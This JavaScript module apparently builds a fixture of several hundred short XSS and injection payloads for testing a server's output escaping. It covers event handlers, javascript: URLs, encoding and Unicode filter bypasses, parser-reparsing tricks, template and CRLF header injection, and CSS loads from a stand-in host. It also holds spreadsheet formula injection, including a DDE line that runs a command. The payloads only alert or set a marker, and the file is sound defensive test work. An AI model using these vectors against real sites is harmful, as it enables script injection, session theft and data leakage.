// Text that tries to become a script, a request or a look of its own wherever it is written out without escaping.
// Each text fits the shortest field there is, and does something of its own: it alerts its number or writes it down.
export const LENGTH_MAX = 64;
const COUNT_MIN = 200;

// § stands for the deed, ¤ for the number of the text.
const CORES = ["<img src=x onerror=§>", "<svg onload=§>", "<script>§</script>"];
const BREAKOUTS = [
  "", '">', "'>", "`>", ">", "/>", '"/>', "</script>", "</title>", "</textarea>", "</style>", "</noscript>", "</svg>", "-->", "--!>", "]]>",
  "</select>", "</option></datalist>", "</template>", "</a></b>", "</p></dd></dl>", "</td></tr></table>", '"}]}</script>', "\\\">", "%>",
];
const ELEMENTS = [
  "<body onload=§>", "<video src=x onerror=§>", "<audio src=x onerror=§>", "<video><source onerror=§></video>",
  "<input autofocus onfocus=§>", "<select autofocus onfocus=§>", "<textarea autofocus onfocus=§>", "<button autofocus onfocus=§>",
  "<a href=x autofocus onfocus=§>x</a>", "<b tabindex=0 autofocus onfocus=§>x</b>", "<details open ontoggle=§>x</details>",
  "<marquee onstart=§>x</marquee>", "<object data=x onerror=§>", "<embed src=x onerror=§>", "<iframe onload=§>",
  "<style onload=§></style>", "<link rel=stylesheet href=x onerror=§>", "<script src=x onerror=§></script>", "<image src=x onerror=§>",
  "<svg><image href=x onerror=§>", "<svg><script>§</script>", "<svg><script href=data:,§ />", "<svg><animate onbegin=§ attributeName=x>",
  "<svg><set onbegin=§ attributeName=x>", "<svg><a href=javascript:§><text>x", "<math href=javascript:§>x</math>",
  "<p style=animation:a onanimationstart=§>x", "<p onpointerover=§>x</p>", "<p onclick=§>x</p>", "<form onformdata=§><button>",
  "<dialog open onclose=§>x", "<track onerror=§>", "<isindex onfocus=§ autofocus>", "<keygen autofocus onfocus=§>", "<frameset onload=§>",
  "<table background=javascript:§>", "<ScRiPt>§</sCrIpT>", "<SCRIPT/x>§</SCRIPT>", "<script\n>§</script\n>", "<script x>§</script y>",
  "<IMG SRC=x ONERROR=§>", "<img/src=x/onerror=§>", "<img\fsrc=x\fonerror=§>", "<img src=x onerror\n=\n§>", "<img src=x onerror=`§`>",
  "<img src='x' onerror='§'>", '<img src="x" onerror="§">', "<img src=x onerror=&#x61;lert(¤)>", "<img src=x onerror=eval('\\x61lert(¤)')>",
  "<svg/onload=§//", "<img src=x onerror=§//", "<<script>§//<</script>", "<script>§<!--", "<script <b>§</script>",
];
const ATTRIBUTES = [
  '" autofocus onfocus=§ x="', "' autofocus onfocus=§ x='", "` autofocus onfocus=§ x=`", " autofocus onfocus=§ ", '"onfocus=§ autofocus x="',
  '" onclick=§ x="', "' onclick=§ x='", '"\tonpointerover\t=§ x="', '" formaction=javascript:§ x="', '" href=javascript:§ x="',
  '" srcdoc="<script>§</script>', "&quot; autofocus onfocus=§ x=&quot;", "&#34; autofocus onfocus=§ x=&#34;", "x\\\" autofocus onfocus=§ x=\\\"",
];
const ADDRESSES = [
  "javascript:§", "JaVaScRiPt:§", "java\tscript:§", "\u0001javascript:§", " javascript:§", "javascript://%0a§", "javascript&colon;§", "&#106;avascript:§",
  "data:text/html,<script>§</script>", "vbscript:§", "blob:§", "view-source:javascript:§", "//elsewhere.test/¤", "/\\elsewhere.test/¤", "https:elsewhere.test/¤",
  "<a href=javascript:§>x</a>", "<a href='java&#9;script:§'>x</a>", "<a href=data:text/html,<script>§</script>>x</a>", "<form action=javascript:§><button>x",
  "<button formaction=javascript:§ form=x>x", "<iframe src=javascript:§>", "<iframe srcdoc='<script>§</script>'>", "<object data=javascript:§>",
  "<embed src=javascript:§>", "<base href=//elsewhere.test/¤/>", "<meta http-equiv=refresh content='0;//elsewhere.test/¤'>", "<img src=//elsewhere.test/¤>",
  "<link rel=prefetch href=//elsewhere.test/¤>", "<script src=//elsewhere.test/¤></script>", "<img srcset=//elsewhere.test/¤>",
];
const SCRIPTS = [
  "';§//", '";§//', "`;§//", "\\';§//", '\\";§//', "'-§-'", '"-§-"', "`-§-`", "${§}", "*/§/*", "\n§//", "\u2028§//", "\u2029§//", '"}];§//', "');§//",
  '");§//', "</script><script>§</script>", "<!--<script>§", "\\u003cscript\\u003e§", "\\x3cimg src=x onerror=§\\x3e", "{{§}}", "{{constructor.constructor('§')()}}",
  "[[§]]", "#{§}", "<%=§%>", "{%§%}", "{{{§}}}", "@(§)", "~{§}", "__proto__", 'x","constructor":"¤', "data:¤\n\nevent: reload", "¤\r\nSet-Cookie: cellar=¤",
];
const ENCODED = [
  "&lt;script&gt;§&lt;/script&gt;", "&amp;lt;script&amp;gt;§", "&#60;svg onload=§&#62;", "&#x3c;svg onload=§&#x3e;", "%3Cscript%3E§%3C/script%3E",
  "%253Csvg onload=§%253E", "+ADw-script+AD4-§+ADw-/script+AD4-", "＜script＞§＜/script＞", "‹script›§‹/script›", "ʺ autofocus onfocus=§ xʺ", "＂ onfocus=§ x＂",
  "<scr\0ipt>§</scr\0ipt>", "<\u200bscript>§</script>", "\ufeff<script>§</script>", "<s\u00adcript>§</script>", "\u202e<svg onload=§>", "\u2066<svg onload=§>\u2069",
  "<ſcript>§</ſcript>", "<İmg src=x onerror=§>", "\u{1f47e}<svg onload=§>", "e\u0301<svg onload=§>", "\u{e0041}<svg onload=§>", "<\u0130frame onload=§>",
];
const REPARSED = [
  '<noscript><p title="</noscript><svg onload=§>">', '<textarea><p title="</textarea><svg onload=§>">', '<title><p title="</title><svg onload=§>">',
  '<xmp><p title="</xmp><svg onload=§>">', '<svg></p><style><a id="</style><svg onload=§>">', "<svg><style><svg onload=§></style>", "<math><mi><mglyph><style><img src onerror=§>",
  "<template><svg onload=§></template>", "<!--><svg onload=§>-->", "<!--><img src=x onerror=§>", "<![CDATA[<svg onload=§>]]>", "<?x <svg onload=§>?>",
  "<select><style><svg onload=§></style>", "<table><td><svg onload=§>", "<svg><desc><svg onload=§>", "<form><form><svg onload=§>", '<a id="`"><svg onload=§>',
  "<img alt=`><svg onload=§>", "<plaintext><svg onload=§>", "<listing>&lt;svg onload=§&gt;</listing>", "<iframe><svg onload=§></iframe>",
];
const LOOKS = [
  "<style>*{display:none}x¤</style>", "<style>*{background:url(//elsewhere.test/¤)}</style>", '" style="background:url(//elsewhere.test/¤)', "}*{background:url(//elsewhere.test/¤)}",
  "</style><style>*{color:red}x¤", "width:expression(§)", "<style>@import'//elsewhere.test/¤'</style>", "<p class=visually-hidden>¤", "<p hidden>¤",
  "<form id=csrf name=csrf>¤", "<img name=getElementById>¤", "<a id=chosen name=chosen>¤", "<input name=csrf value=¤>", "=HYPERLINK(\"//elsewhere.test/¤\")", "@SUM(¤)", "+¤", "-¤+cmd|' /C calc'!A0",
];

const FORMS = [...BREAKOUTS.flatMap((before) => CORES.map((core) => before + core)), ...ELEMENTS, ...ATTRIBUTES, ...ADDRESSES, ...SCRIPTS, ...ENCODED, ...REPARSED, ...LOOKS];

export const TEXTS = FORMS.map((form, number) => {
  const deed = number % 2 ? `__pwned=${number}` : `alert(${number})`;
  return form.replaceAll("§", deed).replaceAll("¤", String(number));
});

// What the server makes of a text before it stores or shows it: no control characters, nothing that turns the direction of
// the text around it, no blanks at its ends.
export const shown = (text) =>
  text.replace(/[\p{Cc}\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/gu, "").replace(/^\p{White_Space}+|\p{White_Space}+$/gu, "");

for (const text of TEXTS) if ([...text].length > LENGTH_MAX) throw new Error(`${[...text].length} characters: ${text}`);
if (new Set(TEXTS.map(shown)).size < Math.max(COUNT_MIN, TEXTS.length)) throw new Error("too few texts, or two alike");
